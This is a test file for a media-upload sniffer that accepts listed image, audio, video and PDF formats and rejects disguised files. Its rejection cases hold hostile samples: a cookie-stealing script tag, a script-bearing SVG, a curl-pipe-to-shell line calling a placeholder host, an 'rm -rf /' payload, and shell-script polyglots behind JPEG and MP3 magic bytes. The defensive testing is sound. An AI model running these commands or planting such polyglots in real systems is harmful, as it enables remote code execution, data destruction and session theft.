import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sniffFile } from '../../../src/evidence/media/sniff.js';
import { ACCEPT_ATTRIBUTE, ACCEPT_TYPES, NOT_CLEANABLE_LABELS } from '../../../src/evidence/media/formats.js';
import {
  VP8X_EXIF,
  VP8X_XMP,
  exifSegment,
  ffmpeg,
  fixture,
  heicFile,
  jpegSegment,
  jpegWith,
  pdfFile,
  riffChunk,
  tempFolder,
  vp8xChunk,
  webpFile,
  webpImageChunk,
  zipFile,
} from './builders.js';

const tmp = tempFolder();
afterAll(() => tmp.remove());

/** The MP3 after its ID3v2 tag (whose size is stored 7 bits per byte). */
function withoutId3(mp3: Buffer): Buffer {
  const size = [6, 7, 8, 9].reduce((n, i) => n * 128 + (mp3[i]! & 0x7f), 0);
  return mp3.subarray(10 + size);
}

const HTML = '<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(document.cookie)</script></body></html>\n';

describe('sniffFile accepts the allowed types by content', () => {
  // Files made by other programs (ffmpeg here), under names that say nothing of their type.
  beforeAll(async () => {
    await ffmpeg(['-i', tmp.file('m4a-source', fixture('tagged.m4a')), '-c', 'copy', '-f', 'mp4', '-y', tmp.path('android-voice')]);
  });

  const image = (mime: string, ext: string, cleanable: boolean) => ({ mime, ext, kind: 'image', cleanable });
  const audio = (mime: string, ext: string, cleanable: boolean) => ({ mime, ext, kind: 'audio', cleanable });

  it.each([
    ['a JPEG', () => fixture('base.jpg'), image('image/jpeg', 'jpg', true)],
    ['a camera JPEG with EXIF', () => jpegWith(exifSegment()), image('image/jpeg', 'jpg', true)],
    ['a PNG', () => fixture('base.png'), image('image/png', 'png', true)],
    ['a lossy WebP', () => fixture('lossy.webp'), image('image/webp', 'webp', true)],
    ['a lossless WebP', () => fixture('lossless.webp'), image('image/webp', 'webp', true)],
    [
      'an extended WebP with EXIF',
      () => webpFile([vp8xChunk(VP8X_EXIF | VP8X_XMP, 32, 24), webpImageChunk('lossy.webp'), riffChunk('EXIF', Buffer.from('MM\0*abc'))]),
      image('image/webp', 'webp', true),
    ],
    ['a HEIC', heicFile, image('image/heic', 'heic', false)],
    ['a PDF', pdfFile, { mime: 'application/pdf', ext: 'pdf', kind: 'pdf', cleanable: false }],
    ['an MP3 with ID3 tags', () => fixture('tagged.mp3'), audio('audio/mpeg', 'mp3', true)],
    ['an MP3 without tags', () => withoutId3(fixture('tagged.mp3')), audio('audio/mpeg', 'mp3', true)],
    ['an M4A', () => fixture('tagged.m4a'), audio('audio/mp4', 'm4a', true)],
    ['an audio-only MP4 (isom brand, as Android recorders write)', () => tmp.path('android-voice'), audio('audio/mp4', 'm4a', true)],
    ['an AMR voice note', () => fixture('voice.amr'), audio('audio/amr', 'amr', false)],
    ['a WAV', () => fixture('tone.wav'), audio('audio/wav', 'wav', false)],
    ['an Opus WebM', () => fixture('voice.webm'), audio('audio/webm', 'webm', false)],
    ['an Opus WebM of unknown size (MediaRecorder)', () => fixture('recorder.webm'), audio('audio/webm', 'webm', false)],
    ['an Ogg Vorbis file', () => fixture('tone.ogg'), audio('audio/ogg', 'ogg', false)],
    ['an Ogg Opus file', () => fixture('tone.opus'), audio('audio/ogg', 'opus', false)],
    ['an MP4 video', () => fixture('tagged.mp4'), { mime: 'video/mp4', ext: 'mp4', kind: 'video', cleanable: true }],
    ['a WebM video', () => fixture('clip.webm'), { mime: 'video/webm', ext: 'webm', kind: 'video', cleanable: false }],
  ])('%s', async (_name, make, expected) => {
    const bytes = make();
    const file = typeof bytes === 'string' ? bytes : tmp.file(`upload-${Math.random().toString(36).slice(2)}.bin`, bytes);
    expect(await sniffFile(file)).toEqual(expected);
  });
});

describe('sniffFile refuses everything else', () => {
  let mov = '';
  let mkv = '';
  beforeAll(async () => {
    const source = tmp.file('mp4-source', fixture('tagged.mp4'));
    mov = tmp.path('clip.mov');
    mkv = tmp.path('clip.mkv');
    await ffmpeg(['-i', source, '-c', 'copy', '-f', 'mov', '-y', mov]);
    await ffmpeg(['-i', source, '-c', 'copy', '-f', 'matroska', '-y', mkv]);
  });

  const jpeg = fixture('base.jpg');
  it.each([
    ['an empty file', () => Buffer.alloc(0)],
    ['an HTML page named .jpg', () => HTML],
    ['HTML behind JPEG magic bytes', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML)])],
    // No tag in these two: the structure checks refuse them, not the markup scan.
    ['a shell script behind JPEG magic bytes', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('#!/bin/sh\necho owned\n'.repeat(40))])],
    ['text behind an MP3 frame header', () => Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x00]), Buffer.from('echo owned\n'.repeat(100))])],
    ['a valid JPEG carrying a script in a comment', () => jpegWith(jpegSegment(0xfe, Buffer.from(HTML)))],
    ['a JPEG cut off after its start marker', () => jpeg.subarray(0, 3)],
    ['a JPEG cut off in its headers', () => jpeg.subarray(0, 100)],
    ['a shell script', () => '#!/bin/sh\ncurl http://example.invalid/x | sh\n'],
    ['an SVG', () => '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'],
    ['an SVG with an XML declaration', () => '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>\n'],
    ['a ZIP archive', zipFile],
    ['a Windows executable', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
    ['plain text', () => 'The village head took the allowance.\n'],
    ['a GIF', () => Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64')],
    ['a PDF that starts as an HTML page', () => '%PDF-1.4\n' + HTML],
    ['an MP3 frame header followed by HTML', () => Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x00]), Buffer.from(HTML)])],
    ['an ID3 tag claiming more bytes than the file has', () => Buffer.concat([Buffer.from('ID3\x04\x00\x00\x7f\x7f\x7f\x7f', 'latin1'), Buffer.from('hello')])],
    ['an ID3 tag in front of a script', () => Buffer.concat([Buffer.from('ID3\x04\x00\x00\x00\x00\x00\x00', 'latin1'), Buffer.from('echo owned\n')])],
    ['an AMR magic line in front of text', () => '#!AMR\nrm -rf / # not speech\n'],
    ['a RIFF WEBP header with no image', () => webpFile([riffChunk('JUNK', Buffer.from('not an image'))])],
    ['a WAVE header with no format chunk', () => Buffer.concat([Buffer.from('RIFF\x0c\x00\x00\x00WAVEdata\x00\x00\x00\x00', 'latin1')])],
  ])('%s', async (_name, make) => {
    expect(await sniffFile(tmp.file('upload.jpg', make()))).toBeNull();
  });

  it('a QuickTime MOV and a Matroska file (not on the list)', async () => {
    expect(await sniffFile(mov)).toBeNull();
    expect(await sniffFile(mkv)).toBeNull();
  });
});

describe('form lists', () => {
  it('puts JPEG first and leaves HEIC out of accept, so Safari converts HEIC photos to JPEG', () => {
    expect(ACCEPT_TYPES[0]).toBe('image/jpeg');
    expect(ACCEPT_ATTRIBUTE).not.toMatch(/heic|heif/);
    expect(ACCEPT_ATTRIBUTE.split(',')).toEqual(expect.arrayContaining(['image/png', 'image/webp', 'application/pdf', 'audio/mpeg', '.m4a', '.amr', 'audio/wav', 'audio/webm', 'video/webm', 'audio/ogg', 'video/mp4']));
  });

  it('names the formats that cannot be cleaned', () => {
    expect(NOT_CLEANABLE_LABELS).toEqual(['HEIC', 'PDF', 'AMR', 'WAV', 'WebM', 'OGG']);
  });
});
